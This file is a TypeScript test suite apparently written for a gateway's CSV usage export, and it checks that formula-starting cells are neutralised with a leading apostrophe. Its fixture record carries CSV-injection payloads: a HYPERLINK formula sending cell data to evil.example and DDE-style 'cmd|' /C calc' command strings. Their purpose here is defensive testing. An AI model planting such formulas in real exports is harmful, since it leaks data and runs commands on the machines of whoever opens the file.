// `tollgate usage export --format csv` never writes a cell a spreadsheet takes for a formula
// (CONTRACT section 16): a cell that begins with =, +, -, @, a tab or a CR gets a leading ',
// and so does one that begins with ' (so dropping one leading ' gives back any cell). Regression:
// a client-chosen x-request-id such as `-1` or `-cmd` went out as is, a formula cell.

import t from 'tap';
import fc from 'fast-check';
import { spawn } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { request } from 'undici';
import { csvField, csvRow, USAGE_COLUMNS } from '../../lib/store/usage-csv.js';
import { MemoryStore } from '../../lib/store/memory/store.js';
import type { UsageRecord } from '../../lib/store/types.js';
import { BIN } from '../helpers/child.js';
import { DEMO_KEY, baseConfig, startGateway } from '../helpers/gateway.js';
import { holds } from '../property/arbitraries.js';

const ADMIN = 'admin-csv-injection-token';
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];

/** RFC 4180 rows (CRLF between rows; CR and LF kept inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (ch === '"') quoted = false; else field += ch;
    } else if (ch === '"' && field === '') quoted = true;
    else if (ch === ',') { row.push(field); field = ''; }
    else if (ch === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; }
    else field += ch;
  }
  if (field !== '' || row.length > 0) throw new Error('csv does not end with CRLF');
  return rows;
}

/** What a reader gets back from a cell: one leading ' dropped. */
const unmark = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);

const dir = await mkdtemp(join(tmpdir(), 'tollgate-csv-'));
t.teardown(() => rm(dir, { recursive: true, force: true }));

const at = Date.now() - 3_600_000;
// Records with a formula at the start of every text column (and negative numbers, which no
// real record holds), seeded through the store API, as an upstream or a config could name them.
const seeded: UsageRecord[] = [
  {
    request_id: '=HYPERLINK("http://evil.example/?"&A1,"click")', at, account: '@SUM(A1:A9)', key_id: '+cmd|\' /C calc\'!A0', team: '=1+team',
    model: '-2+3+cmd|\' /C calc\'!A0', provider: '\tprov', target: '\r=1', route: "'already quoted", status: -1,
    prompt_tokens: 1, cached_tokens: 0, completion_tokens: 2, units: 3, usage_source: 'upstream', duration_ms: -3.5, ttft_ms: null, queue_ms: 0, tags: ['a', 'b'], end_user: '=1+user',
  },
];
{
  const store = await MemoryStore.open({ path: dir, fsyncMs: 0 });
  for (const r of seeded) await store.recordUsage(r);
  await store.close();
}

const c = baseConfig();
c.admin = { token: ADMIN };
c.store = { kind: 'memory', path: dir, fsync_ms: 0 };
const gw = await startGateway(c);
t.teardown(() => gw.close());

async function exportCsv(): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve) => {
    let out = '';
    let err = '';
    const child = spawn(process.execPath, [BIN, 'usage', 'export', '--since', new Date(at - 1000).toISOString(), '--format', 'csv', '--url', gw.url, '--token', ADMIN],
      { stdio: ['ignore', 'pipe', 'pipe'] });
    child.stdout.on('data', (d) => { out += d; });
    child.stderr.on('data', (d) => { err += d; });
    child.on('close', (code) => resolve({ code, out, err }));
  });
}

t.test('client-chosen request ids and seeded formulas export as text cells', async (t) => {
  const asked = ['-cmd|calc', '=1+1', '@SUM(A1)', '+1', '-1', '-cmd', '--help', '-2.5e3', "'x", 'plain-1'];
  const ids = new Map<string, string>();
  for (const id of asked) {
    const res = await request(`${gw.url}/v1/chat/completions`, {
      method: 'POST', headers: { authorization: `Bearer ${DEMO_KEY}`, 'content-type': 'application/json', 'x-request-id': id },
      body: JSON.stringify({ model: 'echo-small', max_tokens: 3, messages: [{ role: 'user', content: 'hi' }] }),
    });
    await res.body.dump();
    t.equal(res.statusCode, 200);
    ids.set(id, String(res.headers['x-request-id']));
  }
  // Ids with characters a request id may not hold are replaced; the rest are kept, dash and all.
  t.strictSame(['-1', '-cmd', '--help', '-2.5e3', 'plain-1'].map((id) => ids.get(id)), ['-1', '-cmd', '--help', '-2.5e3', 'plain-1']);
  for (const id of ['-cmd|calc', '=1+1', '@SUM(A1)', '+1', "'x"]) t.match(ids.get(id), /^req_/, `${id} was replaced`);

  // Records are written as requests finish; wait until all are there.
  let run = await exportCsv();
  for (let i = 0; i < 100 && parseCsv(run.out).length < 1 + seeded.length + asked.length; i++) run = await exportCsv();
  t.equal(run.code, 0, run.err);
  const rows = parseCsv(run.out);
  t.strictSame(rows[0], [...USAGE_COLUMNS], 'the header');
  t.equal(rows.length, 1 + seeded.length + asked.length);
  const col = (name: string) => USAGE_COLUMNS.indexOf(name as (typeof USAGE_COLUMNS)[number]);

  // The seeded record, cell by cell, exactly.
  const row = rows.find((r) => r[col('request_id')]!.includes('HYPERLINK'))!;
  t.strictSame(row, [
    '\'=HYPERLINK("http://evil.example/?"&A1,"click")', new Date(at).toISOString(), "'@SUM(A1:A9)", '\'+cmd|\' /C calc\'!A0', "'=1+team",
    '\'-2+3+cmd|\' /C calc\'!A0', "'\tprov", "'\r=1", "''already quoted", "'-1", '1', '0', '2', '3', 'upstream', "'-3.5", '', '0', 'a,b', "'=1+user", '',
  ]);
  t.ok(run.out.includes('\r\n"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'), 'quoted as RFC 4180 says, the mark inside the quotes');

  // The gateway's own records: the request id cell as the id was answered, marked when it must be.
  const byId = new Map(rows.slice(1).map((r) => [unmark(r[col('request_id')]!), r]));
  const expectCell: Record<string, string> = { '-1': "'-1", '-cmd': "'-cmd", '--help': "'--help", '-2.5e3': "'-2.5e3", 'plain-1': 'plain-1' };
  for (const id of asked) {
    const answered = ids.get(id)!;
    const r = byId.get(answered);
    t.ok(r !== undefined, `a row for ${id}`);
    t.equal(r![col('request_id')], expectCell[id] ?? answered, `request_id cell of ${id}`);
    t.strictSame([r![col('account')], r![col('model')], r![col('route')], r![col('status')]], ['demo', 'echo-small', '/v1/chat/completions', '200']);
  }
  for (const r of rows) for (const cell of r) t.notOk(DANGEROUS.includes(cell[0] ?? ''), `no cell begins with a formula character: ${JSON.stringify(cell.slice(0, 20))}`);
});

t.test('property: no cell begins with a formula character, and the csv reads back (one leading \' dropped)', async (t) => {
  const text = fc.oneof(
    fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", ',', '"', 'a', ' ', '0', 'é') }),
    fc.string({ unit: 'binary' }),
    fc.tuple(fc.constantFrom(...DANGEROUS, "'", ' ', ''), fc.string()).map(([a, b]) => a + b),
  );
  const value = fc.oneof(text, fc.integer({ min: -1e15, max: 1e15 }), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null));
  const record = fc.record(Object.fromEntries(USAGE_COLUMNS.map((k) => [k, value])) as Record<(typeof USAGE_COLUMNS)[number], fc.Arbitrary<unknown>>);
  await holds(t, 'csv cells', fc.asyncProperty(fc.array(record, { minLength: 1, maxLength: 4 }), async (records) => {
    const csv = records.map((r) => csvRow(r)).join('');
    const rows = parseCsv(csv);
    if (rows.length !== records.length) throw new Error(`${rows.length} rows for ${records.length} records`);
    records.forEach((r, i) => {
      const cells = rows[i]!;
      if (cells.length !== USAGE_COLUMNS.length) throw new Error(`row ${i} has ${cells.length} cells`);
      USAGE_COLUMNS.forEach((k, j) => {
        const cell = cells[j]!;
        if (DANGEROUS.includes(cell[0] ?? '')) throw new Error(`cell ${k} begins with ${JSON.stringify(cell[0])}: ${JSON.stringify(cell)}`);
        const v = r[k];
        const want = v === null ? '' : String(v);
        if (unmark(cell) !== want) throw new Error(`cell ${k} reads back as ${JSON.stringify(unmark(cell))}, not ${JSON.stringify(want)}`);
        if ((cell.startsWith("'")) !== (DANGEROUS.includes(want[0] ?? '') || want.startsWith("'"))) throw new Error(`cell ${k} marked wrongly: ${JSON.stringify(cell)}`);
      });
    });
  }), 400);
  t.equal(csvField('-1'), "'-1");
  t.equal(csvField(-1), "'-1", 'a negative number too');
  t.equal(csvField(12), '12');
  t.equal(csvField('=1,2'), '"\'=1,2"');
  t.equal(csvField('\r\n'), '"\'\r\n"');
  t.equal(csvField('a-b'), 'a-b', 'only the first character counts');
});
